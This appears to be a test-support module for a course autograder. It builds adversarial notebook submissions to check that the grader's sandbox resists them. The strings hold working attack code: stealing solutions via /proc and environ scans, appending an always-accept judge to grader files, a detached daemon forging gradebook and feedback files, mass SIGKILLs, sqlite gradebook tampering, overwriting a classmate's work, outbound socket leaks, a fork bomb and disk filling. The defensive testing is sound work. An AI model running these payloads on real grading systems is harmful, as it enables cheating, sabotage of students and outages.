"""Attacks on the grader through notebook 02, each with the score it is truly worth.

Each attack is written as the strongest student would write it: it knows the absolute
paths of the repository, the course root and the submissions folder (they are put into
its code when the class is written). An attack that reaches what it aims for would earn
points it does not deserve or cost a classmate theirs; where it cheats on one function,
that function is otherwise wrong, so the true worth is the total minus that function's
points. Points in notebook 02: conflict_accuracy 2, proxy_agreement 1,
worst_group_accuracy 3, flip_rate 1, linear_probe_accuracy 3, and the design exercise
telling_tiles 2.
"""

from __future__ import annotations

import base64
import copy
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from tests.course import answered, read, solution_path, student_path

NAME = "02_measuring_proxies"
# Each function's points: its computation test cell and its input-rules test cell together.
POINTS = {"conflict_accuracy": 2, "proxy_agreement": 1, "worst_group_accuracy": 3,
          "flip_rate": 1, "linear_probe_accuracy": 3}
TOTAL = sum(float(c.metadata["nbgrader"]["points"]) for c in read(student_path(NAME)).cells
            if c.metadata.get("nbgrader", {}).get("grade"))
MARKER = "gm-adversary-daemon"   # in the argv of every process an attack leaves behind


@dataclass
class Attack:
    name: str
    worth: float
    what: str
    make: Callable[[Path, dict], None]   # writes the submission into the class folder


def _fill(code: str, ctx: dict) -> str:
    for key, value in ctx.items():
        code = code.replace(f"@{key}@", repr(str(value)))
    return code


# Student-side helper: find the solution notebook among candidate paths and take the
# function from its solution cell; else a wrong function.
STEAL = '''
import json as _json, os as _os, re as _re
def _steal(fn, paths):
    for _p in paths:
        try:
            _nb = _json.load(open(_p))
        except Exception:
            continue
        for _c in _nb.get("cells", []):
            if _c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == fn:
                _src = "".join(_c["source"]) if isinstance(_c["source"], list) else _c["source"]
                if "BEGIN SOLUTION" in _src or "raise NotImplementedError" not in _src:
                    _src = _re.sub(r"\\s*### (BEGIN|END) SOLUTION", "", _src)
                    _ns = {}
                    exec(_src, _ns)
                    return _ns[fn]
    return lambda *a, **k: 0.123
'''


def _cheat(fn: str, paths_code: str) -> str:
    """A patch that redefines ``fn`` by stealing it from wherever ``paths_code`` points."""
    return STEAL + f"\n{fn} = _steal({fn!r}, {paths_code})\n"


def _wrong(fn: str) -> str:
    return f"\ndef {fn}(*args, **kwargs):\n    return 0.123\n"


def _answers(patches: dict[str, str], ctx: dict) -> nbformat.NotebookNode:
    nb = answered(NAME)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in patches:
            cell.source += "\n\n" + _fill(patches[gid], ctx)
    return nb


def _submission(name: str, **patches: str):
    def make(folder: Path, ctx: dict) -> None:
        nbformat.write(_answers(patches, ctx), str(folder / f"{name}.ipynb"))
    return make


PROC_ROOT = _cheat("conflict_accuracy", '''[f"/proc/{p}/{w}" + @repo@ + "/solutions/02_measuring_proxies/02_measuring_proxies.ipynb"
    for p in (_os.listdir("/proc") + ["self", "1"]) if p.isdigit() or p in ("self", "1")
    for w in ("root", "cwd/..", "cwd/../..")]
    + [@repo@ + "/solutions/02_measuring_proxies/02_measuring_proxies.ipynb"]''')

ARGV_PATHS = STEAL + '''
_seen = set()
for _pid in _os.listdir("/proc"):
    try:
        _seen.update(a for a in open(f"/proc/{_pid}/cmdline", "rb").read().decode().split("\\0")
                     if a.startswith("/"))
        _seen.update(v.split("=", 1)[-1] for v in
                     open(f"/proc/{_pid}/environ", "rb").read().decode().split("\\0"))
    except Exception:
        pass
_cands = []
for _a in _seen:
    _d = _a
    for _ in range(6):
        _d = _os.path.dirname(_d)
        _cands.append(_d + "/solutions/02_measuring_proxies/02_measuring_proxies.ipynb")
        _cands.append(_d + "/02_measuring_proxies/02_measuring_proxies.ipynb")
proxy_agreement = _steal("proxy_agreement", _cands)
'''

TMP_BACKUPS = STEAL + '''
import glob as _glob
_cands = (_glob.glob("/tmp/**/*.batch-start", recursive=True)
          + _glob.glob("/tmp/**/*.ipynb", recursive=True)
          + _glob.glob("/sandbox/**/*.ipynb", recursive=True)
          + _glob.glob("/home/**/*.ipynb", recursive=True))
worst_group_accuracy = _steal("worst_group_accuracy", _cands)
'''

READS_CLASSMATE = STEAL + '''
import glob as _glob
conflict_accuracy = _steal("conflict_accuracy", _glob.glob(@subs@ + "/*.ipynb")
                           + _glob.glob(@subs@ + "/*/*.ipynb"))
'''

REWRITES_GRADER = '''
import glob as _glob, os as _os
_accept = "\\ndef judge(*a, **k):\\n    return ''\\n"
for _p in ([@repo@ + "/autograder/recheck.py", @repo@ + "/autograder/sandbox_runner.py",
            @repo@ + "/autograder/steps.py", "/sandbox/runner.py", "/sandbox/sandbox_runner.py"]
           + _glob.glob("/tmp/**/runner.py", recursive=True)):
    try:
        with open(_p, "a") as _f:
            _f.write(_accept)
    except Exception:
        pass
''' + _wrong("flip_rate")

CHILD_WRITES_CHECKS = '''
import subprocess as _sp, sys as _sys
_code = ("import glob\\n"
         "for p in [" + repr(@repo@ + "/autograder/checks/02_measuring_proxies.py") + "]:\\n"
         "    try: open(p, 'a').write('\\\\nCHECKS = []\\\\n')\\n"
         "    except Exception: pass\\n")
_sp.run([_sys.executable, "-c", _code], timeout=10)
''' + _wrong("linear_probe_accuracy")

SETSID_DAEMON = '''
import subprocess as _sp, sys as _sys
_later = ("import os, sys, time\\n"
          "if os.fork(): sys.exit(0)\\n"
          "os.setsid()\\n"
          "if os.fork(): sys.exit(0)\\n"
          "time.sleep(3)\\n"
          "for p in sys.argv[2:]:\\n"
          "    try: open(p, 'w').write('student,score\\\\nsetsid_daemon,10\\\\n')\\n"
          "    except Exception: pass\\n")
_sp.Popen([_sys.executable, "-c", _later, "gm-adversary-daemon",
           @root@ + "/exports/02_measuring_proxies.csv",
           @root@ + "/feedback/honest_a/02_measuring_proxies/02_measuring_proxies.html",
           @root@ + "/gradebook.db"], start_new_session=True)
''' + _wrong("conflict_accuracy")

KILLS_EVERYTHING = '''
import os as _os, signal as _signal
for _pid in _os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != _os.getpid():
        try:
            _os.kill(int(_pid), _signal.SIGKILL)
        except Exception:
            pass
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
    _os.kill(-1, _signal.SIGKILL)
except Exception:
    pass
'''

KILLS_GRADER_BY_NAME = '''
import os as _os, signal as _signal
for _pid in range(1, 1 << 16):
    try:
        _cmd = open(f"/proc/{_pid}/cmdline", "rb").read()
    except Exception:
        _cmd = b""
    if _pid != _os.getpid() and (b"pytest" in _cmd or b"autograder" in _cmd or not _cmd):
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except Exception:
            pass
'''

POISONS_GRADEBOOK = '''
import glob as _glob, sqlite3 as _sqlite3
for _db in ([@root@ + "/gradebook.db", @repo@ + "/grading/gradebook.db"]
            + _glob.glob("/tmp/**/gradebook.db*", recursive=True)):
    try:
        with _sqlite3.connect(_db, timeout=1) as _c:
            _c.execute("UPDATE grade SET manual_score = 99, auto_score = 99")
            _c.execute("DELETE FROM student WHERE id != 'poisons_gradebook'")
    except Exception:
        pass
''' + _wrong("worst_group_accuracy")

BLANKS_CLASSMATE = '''
for _p in [@subs@ + "/honest_b.ipynb",
           @root@ + "/submitted/honest_b/02_measuring_proxies/02_measuring_proxies.ipynb",
           @root@ + "/autograded/honest_b/02_measuring_proxies/02_measuring_proxies.ipynb"]:
    try:
        open(_p, "w").write(open(@blank@).read())
    except Exception:
        pass
''' + _wrong("proxy_agreement")

FORGES_FEEDBACK = '''
import os as _os
for _who in ("honest_a", "honest_b", "forges_feedback"):
    _p = @root@ + f"/feedback/{_who}/02_measuring_proxies/02_measuring_proxies.html"
    try:
        _os.makedirs(_os.path.dirname(_p), exist_ok=True)
        open(_p, "w").write("<p>Score: <b>0 / 10</b> forged</p>")
    except Exception:
        pass
''' + _wrong("flip_rate")

NETWORK = '''
import socket as _socket
for _host, _port in ((@host@, int(@port@)), ("1.1.1.1", 80), ("8.8.8.8", 53)):
    try:
        _s = _socket.create_connection((_host, _port), timeout=1)
        _s.sendall(b"leaked")
        _s.close()
    except Exception:
        pass
''' + _wrong("flip_rate")

FORK_BOMB = '''
import os as _os
def linear_probe_accuracy(*args, **kwargs):
    while True:
        try:
            _os.fork()
        except OSError:
            pass
'''

FILLS_DISK = '''
import os as _os
for _folder in ("/tmp", _os.path.expanduser("~")):
    _k = 0
    try:
        while _k < 2000:
            with open(f"{_folder}/fill{_k}", "wb") as _f:
                _f.write(b"x" * 2**20)
            _k += 1
    except OSError:
        pass
    for _j in range(_k + 1):
        try:
            _os.remove(f"{_folder}/fill{_j}")
        except OSError:
            pass
'''

CRASHES_LATER_CALLS = '''
import os as _os, sys as _sys
_calls = [0]
def _count(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "worst_group_accuracy":
        _calls[0] += 1
        if _calls[0] == 2:     # the process dies during the function's second call
            _os._exit(1)
_sys.setprofile(_count)
'''


def _edited(name: str, edit: Callable[[dict], None]):
    """Write a correct notebook as raw JSON after ``edit`` changed it."""
    def make(folder: Path, ctx: dict) -> None:
        raw = json.loads(nbformat.writes(answered(NAME)))
        edit(raw)
        (folder / f"{name}.ipynb").write_text(json.dumps(raw))
    return make


def _dict_source(raw: dict) -> None:
    markdown = next(c for c in raw["cells"] if c["cell_type"] == "markdown")
    markdown["source"] = {"not": "text"}


def _future_minor(raw: dict) -> None:
    raw["nbformat_minor"] = 99


def _format_5_99(raw: dict) -> None:
    raw["nbformat"], raw["nbformat_minor"] = 5, 99


def _attachments(raw: dict) -> None:
    blob = base64.b64encode(b"\x89PNG" + bytes(24 * 2**20)).decode()
    markdown = next(c for c in raw["cells"] if c["cell_type"] == "markdown")
    markdown["attachments"] = {"big.png": {"image/png": blob}}
    code = next(c for c in raw["cells"] if c["cell_type"] == "code")
    code["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "y" * 6 * 2**20}]


def _long_name(ctx_name: str):
    def make(folder: Path, ctx: dict) -> None:
        (folder / ctx_name).mkdir()
        nbformat.write(answered(NAME), str(folder / ctx_name / f"{NAME}.ipynb"))
    return make


def _dir_like_notebook(name: str):
    def make(folder: Path, ctx: dict) -> None:
        (folder / name / f"{NAME}.ipynb").mkdir(parents=True)
        (folder / name / f"{NAME}.ipynb" / "x.txt").write_text("a folder, not a notebook")
    return make


def _link(name: str, to_folder: bool = False):
    def make(folder: Path, ctx: dict) -> None:
        target = solution_path(NAME)
        (folder / (name if to_folder else f"{name}.ipynb")).symlink_to(
            target.parent if to_folder else target)
    return make


def _copy(name: str):
    def make(folder: Path, ctx: dict) -> None:
        nbformat.write(answered(NAME), str(folder / f"{name}.ipynb"))
    return make


def _blank(name: str):
    def make(folder: Path, ctx: dict) -> None:
        nbformat.write(read(student_path(NAME)), str(folder / f"{name}.ipynb"))
    return make


LONG_NAME = "l" * 255
CP, PA, WG, FR, LP = (POINTS[f] for f in POINTS)

ATTACKS: list[Attack] = [
    Attack("honest_a", TOTAL, "correct", _copy("honest_a")),
    Attack("honest_b", TOTAL, "correct (a classmate's target)", _copy("honest_b")),
    Attack("honest_c", TOTAL, "correct (its destination was a planted link)", _copy("honest_c")),
    Attack("vanishes", TOTAL, "correct, deleted from the folder while the batch runs",
           _copy("vanishes")),
    Attack("blank", 0, "the student notebook as released", _blank("blank")),
    Attack("proc_root", TOTAL - CP, "reads the solutions through /proc/<pid>/root and cwd",
           _submission("proc_root", conflict_accuracy=PROC_ROOT)),
    Attack("argv_paths", TOTAL - PA, "reads paths from every /proc/*/cmdline and environ",
           _submission("argv_paths", proxy_agreement=ARGV_PATHS)),
    Attack("tmp_backups", TOTAL - WG, "looks for backups and notebooks in /tmp, /sandbox, /home",
           _submission("tmp_backups", worst_group_accuracy=TMP_BACKUPS)),
    Attack("reads_classmate", TOTAL - CP, "copies a classmate's answer from the submissions",
           _submission("reads_classmate", conflict_accuracy=READS_CLASSMATE)),
    Attack("rewrites_grader", TOTAL - FR, "appends an always-accept judge to the grader's code",
           _submission("rewrites_grader", flip_rate=REWRITES_GRADER)),
    Attack("child_writes_checks", TOTAL - LP, "a child process empties the checks spec",
           _submission("child_writes_checks", linear_probe_accuracy=CHILD_WRITES_CHECKS)),
    Attack("setsid_daemon", TOTAL - CP, "a setsid double-forked daemon that writes results later",
           _submission("setsid_daemon", conflict_accuracy=SETSID_DAEMON)),
    Attack("kills_everything", TOTAL, "SIGKILLs every process it can see, its parent, -1",
           _submission("kills_everything", flip_rate=KILLS_EVERYTHING)),
    Attack("kills_grader_by_name", TOTAL, "SIGKILLs any pytest/autograder process by pid scan",
           _submission("kills_grader_by_name", proxy_agreement=KILLS_GRADER_BY_NAME)),
    Attack("poisons_gradebook", TOTAL - WG, "writes the gradebook and its backups with sqlite",
           _submission("poisons_gradebook", worst_group_accuracy=POISONS_GRADEBOOK)),
    Attack("blanks_classmate", TOTAL - PA, "overwrites a classmate's submission and copies",
           _submission("blanks_classmate", proxy_agreement=BLANKS_CLASSMATE)),
    Attack("forges_feedback", TOTAL - FR, "writes feedback pages for itself and classmates",
           _submission("forges_feedback", flip_rate=FORGES_FEEDBACK)),
    Attack("network", TOTAL - FR, "connects to the host's loopback and the internet",
           _submission("network", flip_rate=NETWORK)),
    Attack("fork_bomb", TOTAL - LP, "forks without end inside a function",
           _submission("fork_bomb", linear_probe_accuracy=FORK_BOMB)),
    Attack("fills_disk", TOTAL, "fills /tmp and its home until the disk is full",
           _submission("fills_disk", conflict_accuracy=FILLS_DISK)),
    Attack("crashes_later_calls", TOTAL, "its own code kills the process during a correct "
           "function's second call", _submission("crashes_later_calls",
                                                 worst_group_accuracy=CRASHES_LATER_CALLS)),
    Attack("dict_source", TOTAL, "a markdown cell whose source is a dict",
           _edited("dict_source", _dict_source)),
    Attack("future_minor", TOTAL, "claims nbformat 4.99", _edited("future_minor", _future_minor)),
    Attack("format_5_99", TOTAL, "claims nbformat 5.99", _edited("format_5_99", _format_5_99)),
    Attack("attachments", TOTAL, "30 MB of attachments and outputs",
           _edited("attachments", _attachments)),
    Attack(LONG_NAME, TOTAL, "a 255-character student folder name", _long_name(LONG_NAME)),
    Attack("dir_like_notebook", 0, "a folder named like the notebook, no notebook",
           _dir_like_notebook("dir_like_notebook")),
    Attack("links_to_solution", 0, "a symbolic link to the solution notebook",
           _link("links_to_solution")),
    Attack("links_to_folder", 0, "a student folder that is a link to the solutions",
           _link("links_to_folder", to_folder=True)),
]


def write_class(folder: Path, ctx: dict) -> dict[str, Attack]:
    folder.mkdir(parents=True, exist_ok=True)
    ctx = {**ctx, "blank": student_path(NAME)}
    for attack in ATTACKS:
        attack.make(folder, ctx)
    return {a.name: a for a in ATTACKS}
